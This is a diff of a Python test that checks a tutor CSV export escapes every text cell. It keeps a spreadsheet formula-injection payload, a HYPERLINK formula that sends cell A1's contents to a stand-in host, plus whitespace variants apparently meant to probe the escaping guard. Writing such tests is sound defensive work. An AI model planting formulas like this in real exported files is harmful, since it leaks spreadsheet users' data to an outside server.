@@ -19,6 +19,7 @@ from hypothesis import strategies as st
 from progress_monitor.pipeline import reporting
 from progress_monitor.pipeline.reporting import TUTOR_CSV_COLUMNS, csv_cell, export_tutors
 from progress_monitor.settings import Settings
+from tests.unit.offline import offline_services
 
 FORMULA = '=HYPERLINK("http://x.example/?q="&A1,"ver")'
 SPACES = [" ", "\u00a0", "\u2000", "\u2007", "\u200a", "\u202f", "\u205f", "\u3000", "\u1680", "\u2028", "\n", "\t"]
@@ -108,7 +109,7 @@ def test_the_export_writes_every_text_cell_through_the_guard(
     out = tmp_path_factory.mktemp("csv") / "lista.csv"
     with pytest.MonkeyPatch.context() as patch:
         patch.setattr(reporting.warehouse, "query", lambda *args, **kwargs: rows)
-        assert export_tutors(Settings(), out) == len(values)
+        assert export_tutors(offline_services(Settings()), out) == len(values)
     written = read_csv(out)
     assert written[0] == list(TUTOR_CSV_COLUMNS)
     for value, row in zip(values, written[1:], strict=True):
